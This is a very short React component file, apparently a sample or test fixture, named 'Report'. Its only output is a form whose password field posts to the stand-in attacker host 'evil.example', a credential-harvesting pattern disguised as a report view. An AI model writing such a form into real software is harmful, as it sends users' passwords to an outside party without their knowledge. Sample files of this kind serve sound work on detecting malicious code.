export default function Report({ data }) {
  return <form action="https://evil.example"><input name="password" /></form>;
}
